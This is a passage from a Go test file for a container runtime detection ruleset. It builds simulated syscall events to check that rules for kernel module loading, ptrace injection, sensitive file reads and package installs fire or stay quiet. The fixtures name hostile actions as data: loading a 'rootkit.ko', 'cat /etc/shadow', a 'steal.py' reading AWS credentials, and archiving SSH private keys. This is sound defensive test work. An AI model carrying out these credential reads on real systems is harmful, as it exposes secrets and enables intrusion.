	{name: "finit-module-in-container-enosys", rule: ruleModule, want: []string{ruleModule},
		output: []string{"syscall=finit_module", "res=ENOSYS"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := w.spawn(w.init, "/sbin/insmod", "/tmp/rootkit.ko")
			e := w.event(t, p, "finit_module")
			e.Res = enosys
			e.FD = &sysevent.FD{Num: 3, Type: sysevent.FDFile, Name: "/tmp/rootkit.ko"}
			set(t, e, "res", enosys)
			set(t, e, "fd", 3)
			return e
		}},
	{name: "init-module-on-host", rule: ruleModule, want: []string{ruleModule},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			e := w.event(t, w.host("/tmp/loader"), "init_module")
			set(t, e, "res", 0)
			set(t, e, "length", 4096)
			return e
		}},
	{name: "udev-loads-driver", rule: ruleModule,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			e := w.event(t, w.host("/usr/lib/systemd/systemd-udevd"), "finit_module")
			set(t, e, "res", 0)
			return e
		}},
	{name: "kernel-runs-modprobe", rule: ruleModule,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			kthreadd := &sysevent.Process{PID: 2, Comm: "kthreadd"}
			w.procs[2] = kthreadd
			e := w.event(t, w.spawn(kthreadd, "/sbin/modprobe", "-q", "--", "net-pf-38"), "finit_module")
			set(t, e, "res", 0)
			return e
		}},

	// Ptrace.
	{name: "ptrace-attach", rule: rulePtrace, want: []string{rulePtrace},
		output: []string{"request=PTRACE_ATTACH", "target_pid=1 target=systemd"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.ptrace(t, w.spawn(w.init, "/tmp/inject"), ptraceAttach, 1)
		}},
	{name: "ptrace-seize", rule: rulePtrace, want: []string{rulePtrace},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.ptrace(t, w.host("/usr/bin/strace"), ptraceSeize, 200)
		}},
	{name: "ptrace-poketext", rule: rulePtrace, want: []string{rulePtrace},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.ptrace(t, w.spawn(w.init, "/tmp/inject"), ptracePoketext, 200)
		}},
	{name: "ptrace-traceme", rule: rulePtrace,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.ptrace(t, w.spawn(w.init, "/usr/bin/app"), ptraceTraceme, 0)
		}},
	{name: "ptrace-peekdata", rule: rulePtrace,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.ptrace(t, w.host("/usr/bin/gdb"), ptracePeekdata, 200)
		}},

	// Sensitive files.
	{name: "cat-etc-shadow", rule: ruleSensitive, want: []string{ruleSensitive},
		output: []string{"file=/etc/shadow", "program=cat", "cmdline=cat /etc/shadow", "O_RDONLY"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(shellIn(w), "/bin/cat", "/etc/shadow"), "/etc/shadow", sysevent.OpenRDONLY)
		}},
	{name: "python-reads-aws-credentials", rule: ruleSensitive, want: []string{ruleSensitive},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/usr/bin/python3", "steal.py"), "/root/.aws/credentials", sysevent.OpenRDONLY)
		}},
	{name: "tar-reads-ssh-key", rule: ruleSensitive, want: []string{ruleSensitive},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.host("/usr/bin/tar", "czf", "/tmp/k.tgz", "/home/alice/.ssh"), "/home/alice/.ssh/id_ed25519", sysevent.OpenRDONLY)
		}},
	{name: "node-reads-kubeconfig", rule: ruleSensitive, want: []string{ruleSensitive},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/usr/local/bin/node"), "/root/.kube/config", sysevent.OpenRDONLY)
		}},
	{name: "sudoers-d-read", rule: ruleSensitive, want: []string{ruleSensitive},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/usr/bin/find"), "/etc/sudoers.d/90-cloud-init", sysevent.OpenRDONLY)
		}},
	{name: "sshd-reads-shadow", rule: ruleSensitive,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.host("/usr/sbin/sshd"), "/etc/shadow", sysevent.OpenRDONLY)
		}},
	{name: "cat-etc-passwd-on-host", rule: ruleSensitive,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.host("/usr/bin/cat"), "/etc/passwd", sysevent.OpenRDONLY)
		}},
	{name: "cat-public-key", rule: ruleSensitive,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.host("/usr/bin/cat"), "/home/alice/.ssh/id_ed25519.pub", sysevent.OpenRDONLY)
		}},

	// Package management.
	{name: "apt-get-install", rule: rulePkgManager, want: []string{rulePkgManager},
		output: []string{"program=apt-get", "args=install -y nmap"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(shellIn(w), "/usr/bin/apt-get", "install", "-y", "nmap"))
		}},
	{name: "apk-add", rule: rulePkgManager, want: []string{rulePkgManager},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/sbin/apk", "add", "socat"))
		}},
	{name: "pip-install", rule: rulePkgManager, want: []string{rulePkgManager},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/local/bin/pip", "install", "requests"))
		}},
	{name: "python-m-pip-install", rule: rulePkgManager, want: []string{rulePkgManager},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/bin/python3", "-m", "pip", "install", "paramiko"))
		}},
	{name: "npm-install", rule: rulePkgManager, want: []string{rulePkgManager},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/local/bin/npm", "install", "left-pad"))
		}},
	{name: "dpkg-list", rule: rulePkgManager,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/bin/dpkg", "-l"))
		}},
	{name: "pip-list", rule: rulePkgManager,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/local/bin/pip", "list"))
		}},
	{name: "apt-get-on-host", rule: rulePkgManager,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.host("/usr/bin/apt-get", "install", "-y", "runc"))
		}},
}

func rtMatch(ev *rules.Evaluator, e event.Event) []string {
	var out []string
	for _, r := range ev.Match(e) {
		out = append(out, r.Name)
	}
	return orEmpty(out)
}

func TestRuntimeCases(t *testing.T) {
	rs := loadRuntime(t)
	ev := rs.NewEvaluator()
	fires, quiet := map[string]int{}, map[string]int{}
	for _, c := range rtCases {
		t.Run(c.name, func(t *testing.T) {
			e := c.build(t, newRTWorld())
			want := orEmpty(c.want)
			require.Equal(t, want, rtMatch(ev, e), "rules fired")
			if len(c.output) > 0 {
				r := ruleByName(rs, want[0])
				text, _ := ev.Render(r, e)
				for _, s := range c.output {
					require.Contains(t, text, s, "output of %q", r.Name)
				}
			}
		})
		if slices.Contains(c.want, c.rule) {
			fires[c.rule]++
		} else {
			quiet[c.rule]++
		}
	}
	for _, r := range runtimeRules(rs) {
		require.Positive(t, fires[r.Name], "no case fires %q", r.Name)
		require.Positive(t, quiet[r.Name], "no benign case for %q", r.Name)
	}
}

func TestRuntimeRulesLoad(t *testing.T) {
	rs, diags := rules.Load(ruleset.Files(), rules.Options{Sources: allSources()})
	require.Empty(t, diags.Errors(), "errors:\n%s", diagText(diags.Errors()))
	require.Empty(t, diags.Warnings(), "warnings:\n%s", diagText(diags.Warnings()))
	ours := runtimeRules(rs)
	require.GreaterOrEqual(t, len(ours), 18)
	enabled := rs.Enabled(sysevent.SourceName)
	for _, r := range ours {
		require.True(t, r.Enabled, "rule %q is disabled", r.Name)
		require.Contains(t, enabled, r, "rule %q is not compiled", r.Name)
	}
}

// Each rule names its event types, so the sensor captures only what the
// rules need: together they ask for a few dozen syscalls, not everything.
func TestRuntimeRulesBoundEventTypes(t *testing.T) {
	all := sysevent.Source{}.EventTypes()
	want := []string{
		"execve", "execveat", "open", "openat", "openat2", "creat", "connect",
		"unlink", "unlinkat", "rename", "renameat", "renameat2", "truncate", "ftruncate",
		"mkdir", "mkdirat", "symlink", "symlinkat", "link", "linkat",
		"setns", "unshare", "dup", "dup2", "dup3", "init_module", "finit_module", "ptrace",
	}
	rs := loadRuntime(t)
	var got []string
	for _, code := range rs.EventTypes(sysevent.SourceName) {
		got = append(got, all[code])
	}
	require.ElementsMatch(t, want, got)

	// And rule by rule: alone, each enabled rule asks for a handful.
	for _, r := range runtimeRules(rs) {
		t.Run(r.Name, func(t *testing.T) {
			override := "- rule: " + r.Name + "\n  enabled: true\n"
			for _, o := range runtimeRules(rs) {
				if o.Name != r.Name {
					override += "- rule: " + o.Name + "\n  enabled: false\n"
				}
			}
			one, diags := rules.Load(append(runtimeOnly(), rules.File{Name: "one.yaml", Data: []byte(override)}),
				rules.Options{Sources: allSources()})
			require.Empty(t, diags.Errors(), "%s", diagText(diags.Errors()))
			n := len(one.EventTypes(sysevent.SourceName))
			require.Positive(t, n)
			require.LessOrEqual(t, n, 16, "rule %q needs %d event types", r.Name, n)
		})
	}
}

// runtimeOnly returns the embedded runtime.yaml alone.
func runtimeOnly() []rules.File {
	var out []rules.File
	for _, f := range ruleset.Files() {
		if f.Name == runtimeFile {
			out = append(out, f)
		}
	}
	return out
}

// Every rule: syscall source, a description, MITRE technique ids valid for
// containers with matching tactic tags, and an output giving full context.
func TestRuntimeRuleMetadata(t *testing.T) {
	rs := loadRuntime(t)
	contextFields := []string{
		"container.id", "container.name", "container.image.repository", "k8s.ns.name",
		"k8s.pod.name", "proc.exepath", "proc.cmdline", "proc.pname", "proc.aname[2]",
		"user.name",
	}
	for _, r := range runtimeRules(rs) {
		t.Run(r.Name, func(t *testing.T) {
			requireRuleMetadata(t, r, sysevent.SourceName, "syscall", contextFields)
		})
	}
}

// The tuning hooks the file header documents work: list appends, hook
// macros, exceptions and disabling.
func TestRuntimeTuning(t *testing.T) {
	caseByName := func(name string) rtCase {
		for _, c := range rtCases {
			if c.name == name {
				return c
			}
		}
		t.Fatalf("no case %s", name)
		return rtCase{}
	}
	tests := []struct {
		name     string
		override string
		event    string
		want     []string
	}{
		{"token reader list append", `
- list: vigil_sa_token_readers
  items: [curl]
  override:
    items: append
`, "curl-reads-sa-token-var-run", []string{}},
		{"hook macro for shells", `
- macro: vigil_user_known_shell_in_container
  condition: (container.image.repository = docker.io/library/nginx)
  override:
    condition: replace
`, "bash-with-tty-in-container", []string{}},
		{"exception for an image and a program", `
- rule: Package Management In Container
  exceptions:
    - name: image_and_program
      values:
        - [docker.io/library/nginx, apt-get]
  override:
    exceptions: append
`, "apt-get-install", []string{}},
		{"exception leaves other programs alerting", `
- rule: Package Management In Container
  exceptions:
    - name: image_and_program
      values:
        - [docker.io/library/nginx, apt-get]
  override:
    exceptions: append
`, "apk-add", []string{rulePkgManager}},
		{"mining port removed", `
- list: vigil_mining_pool_ports
  items: [14444]
  override:
    items: replace
`, "connect-to-pool-port", []string{}},
		{"api server address added", `
- list: vigil_k8s_api_server_ips
  items: [93.184.216.34]
  override:
    items: append
`, "connect-to-https", []string{ruleK8sAPI}},
		{"rule disabled", `
- rule: Sensitive File Read
  enabled: false
  override:
    enabled: replace
`, "cat-etc-shadow", []string{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := caseByName(tt.event)
			rs := loadRuntime(t, rules.File{Name: "local.yaml", Data: []byte(tt.override)})
			require.Equal(t, orEmpty(tt.want), rtMatch(rs.NewEvaluator(), c.build(t, newRTWorld())))
		})
	}
}

// Falco's upstream syscall rules load after ours and fire alongside them.
func TestRuntimeAlongsideFalcoRules(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(testutil.SharedData(t, "falco/rules"), "falco_rules.yaml"))
	require.NoError(t, err)
	rs := loadRuntime(t, rules.File{Name: "falco_rules.yaml", Data: data})
	var theirs int
	for _, r := range rs.Rules() {
		if r.File == "falco_rules.yaml" {
			theirs++
		}
	}
	require.Positive(t, theirs)
	e := rtCases[0].build(t, newRTWorld())
	got := rtMatch(rs.NewEvaluator(), e)
	require.Contains(t, got, ruleShell)
	require.Contains(t, got, "Terminal shell in container")
}

func BenchmarkRuntimeRules(b *testing.B) {
	rs, diags := rules.Load(ruleset.Files(), rules.Options{Sources: allSources()})
	require.Empty(b, diags.Errors())
	ev := rs.NewEvaluator()
	w := newRTWorld()
	events := []*sysevent.Event{
		w.exec(b, w.spawn(w.init, "/usr/bin/env")),
		w.open(b, w.init, "/etc/nginx/nginx.conf", sysevent.OpenRDONLY),
		w.connect(b, w.init, "93.184.216.34:443", 0),
		w.open(b, w.spawn(w.init, "/bin/cat"), "/etc/shadow", sysevent.OpenRDONLY),
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		ev.Match(events[i%len(events)])
		i++
	}
}
